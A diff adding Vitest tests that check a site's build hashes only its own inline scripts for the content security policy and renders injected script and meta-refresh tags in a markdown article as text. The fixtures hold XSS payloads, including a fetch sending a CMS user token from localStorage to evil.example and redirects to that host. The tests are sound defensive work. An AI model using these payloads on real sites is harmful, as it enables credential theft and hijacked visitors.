@@ -1,6 +1,16 @@
+import { createHash } from "node:crypto"
+import { join } from "node:path"
+import { pathToFileURL } from "node:url"
+
 import { describe, expect, it } from "vitest"
 
-import { brokenLinks, moveIslandScripts } from "./html"
+import { contentSecurityPolicy } from "../../server/headers"
+import { markdownProcessor } from "../../src/lib/content/markdown"
+import { SITE_INLINE_SCRIPTS } from "../../src/lib/inline-scripts"
+import { FONTS_FROM_FIRST_PAINT } from "../../src/lib/web-fonts"
+import { brokenLinks, inlineScriptHashes, moveIslandScripts, siteScriptHashes } from "./html"
+
+const hashOf = (body: string) => `sha256-${createHash("sha256").update(body).digest("base64")}`
 
 describe("brokenLinks", () => {
   const pages = {
@@ -53,5 +63,58 @@ describe("moveIslandScripts", () => {
     const { pages } = moveIslandScripts({ "/": page(runtime), "/plain": plain }, () => "/i.js")
     expect(pages["/plain"]).toBe(plain)
     expect(moveIslandScripts({ "/plain": plain }, () => "/i.js")).toEqual({ pages: { "/plain": plain }, code: "" })
+  })
+})
+
+describe("siteScriptHashes", () => {
+  const own = `<script>${FONTS_FROM_FIRST_PAINT}</script>`
+  const ldJson = `<script type="application/ld+json">{"@type":"Article"}</script>`
+
+  it("hashes the site's own inline scripts only, and skips structured data and files", () => {
+    const pages = { "/": `<head>${own}${ldJson}<script type="module" src="/_astro/a.js"></script></head>`, "/a": own }
+    expect(siteScriptHashes(pages, SITE_INLINE_SCRIPTS)).toEqual({
+      hashes: [hashOf(FONTS_FROM_FIRST_PAINT)],
+      foreign: [],
+    })
+  })
+
+  it("gives no hash to any other inline script, whatever its spelling, and names each page that has one", () => {
+    const pages = {
+      "/": own,
+      "/blog/a": `${own}<p><script>alert(document.cookie)</script></p>`,
+      "/blog/b": `<SCRIPT type="text/javascript">alert(1)</SCRIPT><script type=module>import("//evil.example")</script>`,
+    }
+    const { hashes, foreign } = siteScriptHashes(pages, SITE_INLINE_SCRIPTS)
+    expect(hashes).toEqual([hashOf(FONTS_FROM_FIRST_PAINT)])
+    expect(foreign).toEqual([
+      '/blog/a has an inline script the site did not write: "alert(document.cookie)"',
+      '/blog/b has an inline script the site did not write: "alert(1)"',
+      '/blog/b has an inline script the site did not write: "import(\\"//evil.example\\")"',
+    ])
+  })
+})
+
+describe("an article with a script and a refresh that got past the content check (issue 57)", () => {
+  const hostile = [
+    "# Spring clean",
+    "",
+    "<script>fetch('https://evil.example/?t='+localStorage.getItem('decap-cms-user'))</script>",
+    "",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "",
+    'Read more <script>alert(1)</script> and <META HTTP-EQUIV="Refresh" CONTENT="0;URL=https://evil.example/">.',
+  ].join("\n")
+
+  it("is built with the script and the refresh as text: no hash in the policy, no refresh, no foreign script", async () => {
+    const renderer = await markdownProcessor.createRenderer({ syntaxHighlight: false } as never)
+    const file = pathToFileURL(join(process.cwd(), "content/blog/spring-clean.md"))
+    const { code: article } = await renderer.render(hostile, { fileURL: file } as never)
+    const html = `<html><head><script>${FONTS_FROM_FIRST_PAINT}</script></head><body><article>${article}</article></body></html>`
+    expect(html).not.toMatch(/<meta/i)
+    expect(inlineScriptHashes([html])).toEqual([hashOf(FONTS_FROM_FIRST_PAINT)])
+    const { hashes, foreign } = siteScriptHashes({ "/blog/spring-clean": html }, SITE_INLINE_SCRIPTS)
+    expect(foreign).toEqual([])
+    const scriptSrc = /script-src ([^;]*)/.exec(contentSecurityPolicy(hashes, {}))![1]
+    expect(scriptSrc).toBe(`'self' '${hashOf(FONTS_FROM_FIRST_PAINT)}'`)
   })
 })
